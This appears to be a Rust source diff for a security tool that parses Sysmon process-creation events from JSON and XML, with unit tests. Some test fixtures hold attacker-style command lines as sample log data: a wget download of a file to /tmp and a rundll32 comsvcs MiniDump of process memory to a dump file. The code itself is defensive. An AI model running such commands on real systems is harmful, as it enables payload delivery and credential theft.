@@ -1,0 +1,348 @@
+//! Sysmon process creation (event id 1) in the three shapes it travels in: winlogbeat JSON
+//! (`winlog.event_data`), flat JSON from forwarders such as NXLog (event data as top-level
+//! keys), and the Windows event XML itself. Sysmon for Linux writes the same XML.
+//!
+//! Must not: accept another Sysmon event id (3 is a network connection, 11 a file create...),
+//! or enable DTD processing on the XML (entity expansion is an old denial of service).
+
+use std::collections::HashMap;
+
+use serde_json::{Map, Value};
+
+use crate::error::EventError;
+use crate::event::{Event, Format, Os};
+use crate::json::{Doc, has_family, parse_uint};
+
+/// Sysmon's process-creation event id.
+const PROCESS_CREATE: u64 = 1;
+
+/// One Sysmon record, whatever shape it came in.
+struct Record {
+    event_id: u64,
+    computer: Option<String>,
+    /// The system time, used when `UtcTime` is missing.
+    time: Option<String>,
+    /// `EventData` by `Name`, values as text.
+    data: HashMap<String, String>,
+    /// Whether the provider says Sysmon for Linux.
+    linux_provider: bool,
+    /// The fields named in the "has no ..." error.
+    what: &'static str,
+}
+
+/// Does `s` name Sysmon (provider, source or channel)?
+fn names_sysmon(s: Option<&Value>) -> bool {
+    s.and_then(Value::as_str).is_some_and(|s| s.to_ascii_lowercase().contains("sysmon"))
+}
+
+/// winlogbeat: a `winlog` object whose provider or channel is Sysmon, or whose event data has
+/// Sysmon's own keys.
+pub(crate) fn matches_winlogbeat(obj: &Map<String, Value>) -> bool {
+    if !has_family(obj, "winlog") {
+        return false;
+    }
+    let d = Doc::new(Format::Sysmon, obj);
+    names_sysmon(d.get("winlog.provider_name"))
+        || names_sysmon(d.get("winlog.channel"))
+        || d.has("winlog.event_data.UtcTime") && d.has("winlog.event_data.ProcessGuid")
+}
+
+/// Flat forwarder JSON: `EventID` with a Sysmon source, or with Sysmon's own keys.
+pub(crate) fn matches_flat(obj: &Map<String, Value>) -> bool {
+    if !obj.contains_key("EventID") && !obj.contains_key("EventId") {
+        return false;
+    }
+    ["SourceName", "ProviderName", "Provider", "Channel"].iter().any(|k| names_sysmon(obj.get(*k)))
+        || obj.contains_key("UtcTime") && (obj.contains_key("Image") || obj.contains_key("ProcessGuid"))
+}
+
+pub(crate) fn parse_winlogbeat(obj: &Map<String, Value>) -> Result<Event, EventError> {
+    let d = Doc::new(Format::Sysmon, obj);
+    let event_id = event_id(&d, "winlog.event_id")?;
+    let mut data = HashMap::new();
+    if let Some(ed) = d.object("winlog.event_data") {
+        collect_text(&ed, &mut data);
+    }
+    let record = Record {
+        event_id,
+        computer: d.first_str(&["winlog.computer_name", "host.hostname", "host.name"])?,
+        time: d.text("@timestamp")?,
+        data,
+        linux_provider: d.str("winlog.provider_name")?.is_some_and(|p| p.starts_with("Linux")),
+        what: "winlog.event_data.Image or winlog.event_data.CommandLine",
+    };
+    record.into_event()
+}
+
+pub(crate) fn parse_flat(obj: &Map<String, Value>) -> Result<Event, EventError> {
+    let d = Doc::new(Format::Sysmon, obj);
+    let key = if obj.contains_key("EventID") { "EventID" } else { "EventId" };
+    let event_id = event_id(&d, key)?;
+    let mut data = HashMap::new();
+    collect_text(&d, &mut data);
+    let record = Record {
+        event_id,
+        computer: d.first_str(&["Hostname", "Computer", "ComputerName"])?,
+        time: d.text("EventTime")?,
+        data,
+        linux_provider: d.first_str(&["SourceName", "ProviderName"])?.is_some_and(|p| p.starts_with("Linux")),
+        what: "Image or CommandLine",
+    };
+    record.into_event()
+}
+
+/// A Windows event XML document: `<Event>`, or `<Events>` holding exactly one `<Event>`.
+pub(crate) fn parse_xml(text: &str) -> Result<Event, EventError> {
+    let doc = roxmltree::Document::parse(text).map_err(|e| EventError::BadXml { reason: e.to_string() })?;
+    let mut event = doc.root_element();
+    if event.tag_name().name() == "Events" {
+        let events: Vec<_> = event.children().filter(|n| n.has_tag_name_local("Event")).collect();
+        match events.as_slice() {
+            [one] => event = *one,
+            _ => {
+                return Err(EventError::BadXml {
+                    reason: format!("<Events> holds {} <Event> elements; send exactly one", events.len()),
+                });
+            }
+        }
+    }
+    if event.tag_name().name() != "Event" {
+        let reason = format!("root element is <{}>, not <Event>", event.tag_name().name());
+        return Err(EventError::BadXml { reason });
+    }
+    let system = child(event, "System").ok_or_else(|| EventError::BadXml { reason: "no <System> element".into() })?;
+    let id_text = child(system, "EventID")
+        .map(node_text)
+        .ok_or_else(|| EventError::BadXml { reason: "no <System><EventID> element".into() })?;
+    let event_id = parse_uint(&id_text).ok_or_else(|| EventError::BadField {
+        format: Format::Sysmon,
+        field: "System/EventID".into(),
+        expected: "a non-negative integer",
+        found: format!("{:?}", id_text.chars().take(40).collect::<String>()),
+    })?;
+    let mut data = HashMap::new();
+    if let Some(event_data) = child(event, "EventData") {
+        for d in event_data.children().filter(|n| n.has_tag_name_local("Data")) {
+            if let Some(name) = d.attribute("Name") {
+                data.insert(name.to_string(), node_text(d));
+            }
+        }
+    }
+    let provider = child(system, "Provider").and_then(|p| p.attribute("Name")).unwrap_or("");
+    let record = Record {
+        event_id,
+        computer: child(system, "Computer").map(node_text).filter(|s| !s.is_empty()),
+        time: child(system, "TimeCreated").and_then(|t| t.attribute("SystemTime")).map(str::to_string),
+        data,
+        linux_provider: provider.starts_with("Linux"),
+        what: "EventData Image or CommandLine",
+    };
+    record.into_event()
+}
+
+/// The first child element of `parent` with local name `name`.
+fn child<'a, 'i>(parent: roxmltree::Node<'a, 'i>, name: &str) -> Option<roxmltree::Node<'a, 'i>> {
+    parent.children().find(|n| n.has_tag_name_local(name))
+}
+
+trait LocalName {
+    fn has_tag_name_local(&self, name: &str) -> bool;
+}
+
+impl LocalName for roxmltree::Node<'_, '_> {
+    /// Matches on the local name, whatever namespace the producer declared.
+    fn has_tag_name_local(&self, name: &str) -> bool {
+        self.is_element() && self.tag_name().name() == name
+    }
+}
+
+/// All text under a node, entities decoded.
+fn node_text(node: roxmltree::Node<'_, '_>) -> String {
+    node.descendants().filter(|n| n.is_text()).filter_map(|n| n.text()).collect()
+}
+
+/// The event id as a number or as text (winlogbeat 8 writes `"1"`).
+fn event_id(d: &Doc<'_>, key: &str) -> Result<u64, EventError> {
+    d.uint(key)?.ok_or(EventError::Missing { format: Format::Sysmon, what: "event id" })
+}
+
+/// Every string or number field of an object, as text.
+fn collect_text(d: &Doc<'_>, out: &mut HashMap<String, String>) {
+    for (k, v) in d.root {
+        let text = match v {
+            Value::String(s) => s.clone(),
+            Value::Number(n) => n.to_string(),
+            _ => continue,
+        };
+        out.insert(k.clone(), text);
+    }
+}
+
+impl Record {
+    fn into_event(mut self) -> Result<Event, EventError> {
+        if self.event_id != PROCESS_CREATE {
+            return Err(EventError::NotProcessCreation {
+                format: Format::Sysmon,
+                found: format!("event id {}", self.event_id),
+                expected: "id 1",
+            });
+        }
+        // Sysmon writes "-" for a value it does not know (a parent that already exited).
+        let mut take = |key: &str| self.data.remove(key).filter(|v| !v.trim().is_empty() && v != "-");
+        let mut e = Event::new(Format::Sysmon, Os::Unknown);
+        e.process_path = take("Image");
+        e.command_line = take("CommandLine");
+        e.parent_path = take("ParentImage");
+        e.parent_command_line = take("ParentCommandLine");
+        e.user = take("User");
+        e.cwd = take("CurrentDirectory");
+        e.pid = take("ProcessId").and_then(|v| parse_uint(&v));
+        e.ppid = take("ParentProcessId").and_then(|v| parse_uint(&v));
+        let hashes = take("Hashes");
+        e.timestamp = take("UtcTime").or(self.time.take());
+        e.host = self.computer.take();
+        if let Some(h) = hashes {
+            for (k, v) in split_hashes(&h) {
+                e.hashes.insert(k, v);
+            }
+        }
+        let mut e = e.finish(self.what)?;
+        if e.os == Os::Unknown {
+            e.os = if self.linux_provider { Os::Linux } else { Os::Windows };
+        }
+        Ok(e)
+    }
+}
+
+/// `SHA1=..,MD5=..,SHA256=..,IMPHASH=..` into lower-case keys.
+fn split_hashes(s: &str) -> Vec<(String, String)> {
+    s.split(',')
+        .filter_map(|pair| pair.split_once('='))
+        .map(|(k, v)| (crate::formats::hash_key(k.trim()), v.trim().to_string()))
+        .filter(|(k, v)| !k.is_empty() && !v.is_empty())
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    const XML: &str = r#"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><TimeCreated SystemTime='2024-03-12T09:14:07.3325120Z'/><Computer>WS-0142.corp.example.com</Computer></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2024-03-12 09:14:07.331</Data><Data Name='ProcessId'>5524</Data><Data Name='Image'>C:\Windows\System32\cmd.exe</Data><Data Name='CommandLine'>cmd.exe /c "echo a &amp;&amp; type x &gt; y &lt; z"</Data><Data Name='User'>CORP\jdoe</Data><Data Name='Hashes'>SHA1=AB,MD5=CD,SHA256=EF,IMPHASH=01</Data><Data Name='ParentProcessId'>4100</Data><Data Name='ParentImage'>C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE</Data><Data Name='ParentCommandLine'>-</Data></EventData></Event>"#;
+
+    #[test]
+    fn xml_with_entities_and_dash_values() {
+        let e = parse_xml(XML).unwrap();
+        assert_eq!(e.os, Os::Windows);
+        assert_eq!(e.command_line.as_deref(), Some("cmd.exe /c \"echo a && type x > y < z\""));
+        assert_eq!(e.parent_name.as_deref(), Some("WINWORD.EXE"));
+        assert_eq!(e.parent_command_line, None, "\"-\" means unknown");
+        assert_eq!(e.host.as_deref(), Some("WS-0142.corp.example.com"));
+        assert_eq!(e.pid, Some(5524));
+        assert_eq!(e.timestamp.as_deref(), Some("2024-03-12 09:14:07.331"));
+        let keys: Vec<_> = e.hashes.keys().map(String::as_str).collect();
+        assert_eq!(keys, ["imphash", "md5", "sha1", "sha256"]);
+    }
+
+    #[test]
+    fn xml_id_3_is_rejected() {
+        let xml = XML.replace("<EventID>1</EventID>", "<EventID>3</EventID>");
+        assert_eq!(parse_xml(&xml).unwrap_err().to_string(), "Sysmon event id 3 is not a process creation (id 1)");
+    }
+
+    #[test]
+    fn xml_events_wrapper_with_one_event() {
+        let wrapped = format!("<Events>{XML}</Events>");
+        assert!(parse_xml(&wrapped).is_ok());
+        let two = format!("<Events>{XML}{XML}</Events>");
+        assert!(matches!(parse_xml(&two), Err(EventError::BadXml { .. })));
+    }
+
+    #[test]
+    fn bad_xml_is_reported() {
+        assert!(matches!(parse_xml("<Event><System>"), Err(EventError::BadXml { .. })));
+        let no_system = parse_xml("<Event><EventData/></Event>").unwrap_err();
+        assert_eq!(no_system.to_string(), "malformed Sysmon XML: no <System> element");
+        let empty = parse_xml("<Event><System><EventID>1</EventID></System><EventData/></Event>").unwrap_err();
+        assert_eq!(empty.to_string(), "Sysmon event has no EventData Image or CommandLine");
+        let wlb = json!({"winlog": {"provider_name": "Microsoft-Windows-Sysmon", "event_id": "1", "event_data": {}}});
+        assert_eq!(
+            parse_winlogbeat(wlb.as_object().unwrap()).unwrap_err().to_string(),
+            "Sysmon event has no winlog.event_data.Image or winlog.event_data.CommandLine"
+        );
+        let dtd = "<!DOCTYPE x [<!ENTITY a 'b'>]><Event/>";
+        assert!(matches!(parse_xml(dtd), Err(EventError::BadXml { .. })));
+    }
+
+    #[test]
+    fn linux_sysmon_xml() {
+        let xml = "<Event><System><Provider Name='Linux-Sysmon' Guid='{ff032593-a8d3-4f13-b0d6-01fc615a0f97}'/>\
+            <EventID>1</EventID><Computer>web-03</Computer></System><EventData>\
+            <Data Name='Image'>/usr/bin/wget</Data><Data Name='CommandLine'>wget -q http://198.51.100.7/x -O /tmp/x</Data>\
+            <Data Name='User'>www-data</Data></EventData></Event>";
+        let e = parse_xml(xml).unwrap();
+        assert_eq!(e.os, Os::Linux);
+        assert_eq!(e.process_name.as_deref(), Some("wget"));
+    }
+
+    #[test]
+    fn winlogbeat_with_string_event_id() {
+        let v = json!({
+            "@timestamp": "2024-03-12T09:14:07.332Z",
+            "winlog": {
+                "channel": "Microsoft-Windows-Sysmon/Operational", "provider_name": "Microsoft-Windows-Sysmon",
+                "event_id": "1", "computer_name": "WS-0142.corp.example.com",
+                "event_data": {"Image": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /all",
+                    "ProcessId": "7712", "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "CORP\\jdoe",
+                    "Hashes": "SHA256=AA"}
+            }
+        });
+        let obj = v.as_object().unwrap();
+        assert!(matches_winlogbeat(obj));
+        let e = parse_winlogbeat(obj).unwrap();
+        assert_eq!(e.pid, Some(7712));
+        assert_eq!(e.process_name.as_deref(), Some("whoami.exe"));
+        assert_eq!(e.hashes.get("sha256").map(String::as_str), Some("AA"));
+        assert_eq!(e.timestamp.as_deref(), Some("2024-03-12T09:14:07.332Z"), "no UtcTime: falls back to @timestamp");
+    }
+
+    #[test]
+    fn winlogbeat_numeric_id_3_is_rejected() {
+        let v = json!({"winlog": {"provider_name": "Microsoft-Windows-Sysmon", "event_id": 3,
+            "event_data": {"Image": "C:\\x.exe"}}});
+        let err = parse_winlogbeat(v.as_object().unwrap()).unwrap_err();
+        assert_eq!(err.to_string(), "Sysmon event id 3 is not a process creation (id 1)");
+    }
+
+    #[test]
+    fn flat_with_missing_process_id() {
+        let v = json!({
+            "EventTime": "2024-03-12 10:14:07", "Hostname": "WS-0142.corp.example.com", "EventID": 1,
+            "SourceName": "Microsoft-Windows-Sysmon", "ProcessID": 3120,
+            "Image": "C:\\Windows\\System32\\rundll32.exe",
+            "CommandLine": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
+            "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "CORP\\adm-jdoe"
+        });
+        let obj = v.as_object().unwrap();
+        assert!(matches_flat(obj));
+        let e = parse_flat(obj).unwrap();
+        assert_eq!(e.pid, None, "ProcessID is the event log's writer, not the new process");
+        assert_eq!(e.os, Os::Windows);
+        assert_eq!(e.timestamp.as_deref(), Some("2024-03-12 10:14:07"));
+    }
+
+    #[test]
+    fn flat_without_image_or_command_line_names_them() {
+        let v = json!({"EventID": 1, "SourceName": "Microsoft-Windows-Sysmon", "ProcessId": 4});
+        let err = parse_flat(v.as_object().unwrap()).unwrap_err();
+        assert_eq!(err.to_string(), "Sysmon event has no Image or CommandLine");
+    }
+
+    #[test]
+    fn non_sysmon_event_id_objects_do_not_match() {
+        let v = json!({"EventID": 4688, "SourceName": "Microsoft-Windows-Security-Auditing"});
+        assert!(!matches_flat(v.as_object().unwrap()));
+        let w = json!({"winlog": {"provider_name": "Microsoft-Windows-Security-Auditing", "event_id": 4688}});
+        assert!(!matches_winlogbeat(w.as_object().unwrap()));
+    }
+}
